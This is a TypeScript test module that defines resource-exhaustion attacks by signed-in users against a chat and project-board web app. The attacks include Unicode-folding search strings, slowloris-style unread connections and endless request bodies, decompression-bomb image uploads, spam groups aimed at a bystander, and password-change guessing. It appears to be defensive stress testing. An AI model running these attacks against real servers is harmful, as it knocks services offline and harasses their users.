/**
 * The worst that a signed-in person is known to be able to ask for, one function for each kind. Every
 * function is one attempt; the attackers repeat it as fast as they are answered.
 */
import { randomBytes, randomInt } from 'node:crypto';
import type { Person } from '../person.ts';
import { head, openSocket, statusesIn } from '../raw-http.ts';

/** What the attackers find on the server. All of them are members of it. */
export interface Target {
  /** A project with as many hostile tasks as the server takes. */
  projectId: number;
  /** A group with as many hostile messages. */
  chatId: number;
  /** The bystander. */
  victimId: number;
  /** A PNG that is small to send and large to decode, in base64. */
  picture: string;
}

/** @returns the statuses of the answers that it waited for */
export type Attack = (attacker: Person, target: Target) => Promise<number[]>;

/** One character that Unicode's compatibility decomposition makes eighteen of. */
const longFolding = '\ufdfa';
const unreadHoldMs = 2_000;
/** As many as a filter takes. */
const labelsInFilter = 200;

const digits = () => String(randomInt(1e14, 2e14));

async function status(answer: Promise<{ status: number }>): Promise<number[]> {
  return [(await answer).status];
}

/**
 * Asks for an answer on a connection of its own and reads no more than its first piece.
 * @returns the status, if there was one in time
 */
async function neverReads({ address, cookie }: Person, path: string, accept: string) {
  const socket = await openSocket(address);
  const closed = new Promise((resolve) => socket.once('close', resolve));
  let statuses: number[] = [];
  socket.setEncoding('latin1').once('data', (piece: string) => {
    socket.pause();
    statuses = statusesIn(piece).slice(0, 1).map(Number);
  });
  socket.write(head('GET', path, { cookie, accept }));
  const timer = setTimeout(() => socket.destroy(), unreadHoldMs);
  await closed;
  clearTimeout(timer);
  return statuses;
}

export const attacks: Record<string, Attack> = {
  'made-up label filters': (attacker, { projectId }) => {
    const labels = Array.from({ length: labelsInFilter }, () => `label=${digits()}`).join('&');
    return status(attacker.get(`/project/${projectId}/kanban_partial?q=%D0%B6&${labels}`));
  },

  'board searches': (attacker, { projectId }) => {
    const query = encodeURIComponent(`${longFolding.repeat(20)} ${digits()}`);
    return status(attacker.get(`/project/${projectId}/kanban_partial?q=${query}`));
  },

  'message searches': (attacker, { chatId }) => {
    const query = encodeURIComponent(`${longFolding.repeat(5)}${randomInt(1e6)}`);
    const where = randomInt(2) === 0 ? `&chat_id=${chatId}` : '';
    return status(attacker.get(`/search-messages?q=${query}${where}`));
  },

  'pages that nobody reads': async (attacker, { projectId }) => {
    const path = `/project/${projectId}?${digits()}`;
    return (
      await Promise.all(Array.from({ length: 20 }, () => neverReads(attacker, path, 'text/html')))
    ).flat();
  },

  'histories that nobody reads': async (attacker, { chatId, projectId }) => {
    const paths = [`/get-group-chat-messages/${chatId}`, `/project/${projectId}`];
    return (
      await Promise.all(
        Array.from({ length: 20 }, (_, i) =>
          neverReads(attacker, paths[i % paths.length] as string, 'application/json'),
        ),
      )
    ).flat();
  },

  'pictures that are large once decoded': async (attacker, { picture }) => {
    const image = new Blob([Buffer.from(picture, 'base64')], { type: 'image/png' });
    const answers = Array.from({ length: 4 }, () =>
      attacker.post('/upload-profile-image', { image }, 'multipart'),
    );
    return (await Promise.all(answers)).map((answer) => answer.status);
  },

  'groups that nobody wants': async (attacker, { victimId }) => {
    const made = await attacker.post('/create-group-chat', {
      group_name: `Group ${digits()}`,
      user_ids: [victimId],
    });
    const chat_id = made.body?.chat?.chat_id;
    if (chat_id === undefined) return [made.status];
    const edits = Array.from({ length: 20 }, (_, i) =>
      attacker.post('/edit-group', { chat_id, group_name: `Name ${i}` }),
    );
    return [made.status, ...(await Promise.all(edits)).map((answer) => answer.status)];
  },

  'long texts in every place': async (attacker, { chatId, projectId }) => {
    const text = longFolding.repeat(10_000);
    const mentions = '@everyone #1 '.repeat(700);
    const answers = [
      attacker.post('/send-message', { 'chat-id-field': chatId, 'message-input': text }),
      attacker.post('/send-message', { 'chat-id-field': chatId, 'message-input': mentions }),
      attacker.post(`/project/${projectId}/add_task`, {
        task_title: longFolding.repeat(255),
        task_description: text + text,
      }),
    ];
    return (await Promise.all(answers)).map((answer) => answer.status);
  },

  'bodies that never end': async (attacker) => {
    const { address, cookie } = attacker;
    const sockets = await Promise.all(Array.from({ length: 50 }, () => openSocket(address)));
    const part = randomBytes(40_000).toString('base64');
    const type = { 'content-type': 'application/json', 'content-length': '1000000' };
    for (const socket of sockets) {
      socket.write(
        `${head('POST', '/send-message', { cookie, ...type })}{"message-input":"${part}`,
      );
    }
    const closed = Promise.all(
      sockets.map((socket) => new Promise((resolve) => socket.once('close', resolve))),
    );
    const timer = setTimeout(() => {
      for (const socket of sockets) socket.destroy();
    }, unreadHoldMs);
    await closed;
    clearTimeout(timer);
    return [];
  },

  'passwords and event streams': async (attacker) => {
    const guesses = Array.from({ length: 4 }, () =>
      attacker.post('/change-password', {
        current_password: digits(),
        new_password: `another ${digits()}`,
      }),
    );
    const streams = Array.from({ length: 10 }, () => neverReads(attacker, '/events', '*/*'));
    const rename = attacker.post('/edit-profile', { first_name: digits() });
    await Promise.all(streams);
    return (await Promise.all([...guesses, rename])).map((answer) => answer.status);
  },
};
